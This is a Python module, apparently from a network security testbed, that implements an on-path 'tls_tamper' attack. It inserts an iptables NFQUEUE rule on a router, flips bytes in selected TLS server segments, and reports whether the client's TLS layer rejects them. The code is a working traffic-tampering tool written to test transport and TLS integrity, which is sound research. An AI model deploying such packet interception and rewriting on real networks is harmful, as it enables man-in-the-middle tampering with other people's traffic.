"""``tls_tamper``: an on-path attacker modifies bytes of the victim's TLS stream in flight
(claim A1).

Design choice. The ``on_path`` attacker node only receives a MIRROR of the path's access
link: from there it could only race the real packets with forged ones (what ``tcp_inject``
does in its control mode). To *modify* the stream in flight, this attack uses the on-path
position's real power, the forwarding path itself: once the victim's subflows have settled
it installs an NFQUEUE rule in the path's access router (the node whose link the attacker
is mirrored from) and runs a rewriter there (``attacks._nfq``, a raw-netlink NFQUEUE
client). The rewriter lets every packet through unchanged except the ``after``-th
server->client segment with payload (and ``count - 1`` more, and any retransmission of
them), in which it flips ``flip`` bytes and fixes the TCP checksum, so the segment is valid
for TCP and, under MPTCP, still carries its DSS mapping. This models a compromised access
point or a malicious Wi-Fi/ISP box. The change is deterministic (no race); the rule is
fail-open (``--queue-bypass``) and removed at teardown.

Expected under both transports (DSS checksum off, the kernel's default): TCP/MPTCP deliver
the modified bytes, TLS's record authentication rejects them (bad record MAC), the client
aborts; nothing forged reaches the application (what it wrote is an untouched prefix of the
payload). The report says which segment was changed, how, and whether the changed bytes
crossed the path (from the testbed's own capture).
"""

from __future__ import annotations

import contextlib
import json
import subprocess
from typing import Any, ClassVar

from attacks._common import iptables, read_line, received_check, start_worker
from testbed.model.params import ParamSpec
from testbed.runtime.attack import Attack
from testbed.runtime.node import Node

QUEUE_NUM = 4242
READY_TIMEOUT_S = 15.0


class TlsTamper(Attack):
    kind: ClassVar[str] = "tls_tamper"
    description: ClassVar[str] = (
        "on-path: rewrites bytes of the server's TLS records in flight (NFQUEUE in the "
        "path's access router) and reports what the victim made of it")
    positions: ClassVar[tuple[str, ...]] = ("on_path",)
    requires: ClassVar[frozenset[str]] = frozenset({"iptables", "tshark"})
    params: ClassVar[dict[str, ParamSpec]] = {
        "after": ParamSpec("after", int, 30, "tamper with the n-th server->client segment "
                           "with payload (past the TLS handshake)", lo=1, hi=100000),
        "flip": ParamSpec("flip", int, 1, "payload bytes inverted in that segment", lo=1,
                          hi=1000),
        "count": ParamSpec("count", int, 1, "segments tampered with", lo=1, hi=1000),
    }

    worker: subprocess.Popen[str] | None = None
    rule: list[str] | None = None
    router: Node | None = None

    def prepare(self) -> None:
        ctx = self.ctx
        path = ctx.attachment.path
        assert path is not None
        self.router = ctx.net.nodes[ctx.net.spec.middlebox_slots[path]]
        self.log = ctx.evidence("tampered.jsonl")
        self.log.write_text("")
        config = {"queue": QUEUE_NUM, "server": ctx.server_address, "port": ctx.port,
                  "after": self.values["after"], "flip": self.values["flip"],
                  "count": self.values["count"], "log": str(self.log)}
        self.worker = start_worker(self.router, "attacks._nfq", config,
                                   f"{self.kind} rewriter", ctx.evidence("rewriter.log"))
        if read_line(self.worker, READY_TIMEOUT_S, "tls_tamper rewriter") != "ready":
            raise RuntimeError("tls_tamper rewriter did not bind its queue")
        self.rule = ["FORWARD", "-p", "tcp", "-s", ctx.server_address, "--sport", str(ctx.port),
                     "-d", ctx.client_address(path), "-m", "comment", "--comment",
                     f"{ctx.net.ledger.tag}-tls_tamper", "-j", "NFQUEUE", "--queue-num",
                     str(QUEUE_NUM), "--queue-bypass"]
        ctx.say(f"rewriter bound to NFQUEUE {QUEUE_NUM} in {self.router.name}")

    def act(self) -> None:
        # The rule goes in only now: the victim's subflows have settled, so under MPTCP the
        # tampered segment is one of an established two-subflow connection.
        assert self.router is not None and self.rule is not None
        iptables(self.router, "-I", self.rule)
        self.ctx.say(f"queueing the server's segments in {self.router.name}")

    def finish(self) -> dict[str, Any]:
        self._remove()
        events = [json.loads(line) for line in self.log.read_text().splitlines()
                  if line.strip()]
        report: dict[str, Any] = {
            "router": self.router.name if self.router else None,
            "path": self.ctx.attachment.path,
            "tampered_segments": len([e for e in events if not e.get("retransmission")]),
            "tampered_copies": len(events),
            "tampered": events,
            "seen_on_path": self._seen_on_path(events),
        }
        report.update(received_check(self.ctx.evidence_dir, self.ctx.app_bytes))
        return report

    def _seen_on_path(self, events: list[dict[str, Any]]) -> bool | None:
        """Whether the testbed's own capture of the path (after the router) carries the
        modified bytes: an independent check that the rewrite happened on the wire."""
        pcap = self.ctx.victim_pcaps.get(self.ctx.attachment.path or "")
        if pcap is None or not events:
            return None
        for ev in events:
            flt = (f"tcp.srcport == {ev['sport']} && tcp.dstport == {ev['dport']} && "
                   f"tcp.seq_raw == {ev['seq']} && tcp.len == {ev['len']}")
            res = subprocess.run(["tshark", "-n", "-r", str(pcap), "-Y", flt, "-T",
                                  "fields", "-e", "tcp.payload"], capture_output=True,
                                 text=True, timeout=60, check=False)
            for line in res.stdout.split():
                data = bytes.fromhex(line.replace(":", ""))
                at = ev["payload_offset"]
                if data[at:at + ev["bytes"]].hex() == ev["after"]:
                    return True
        return False

    def _remove(self) -> None:
        if self.rule is not None and self.router is not None:
            iptables(self.router, "-D", self.rule, check=False)
            self.rule = None
        if self.worker is not None and self.router is not None:
            with contextlib.suppress(Exception):
                self.router.stop(self.worker)
            self.worker = None

    def teardown(self) -> None:
        with contextlib.suppress(Exception):
            self._remove()
        super().teardown()
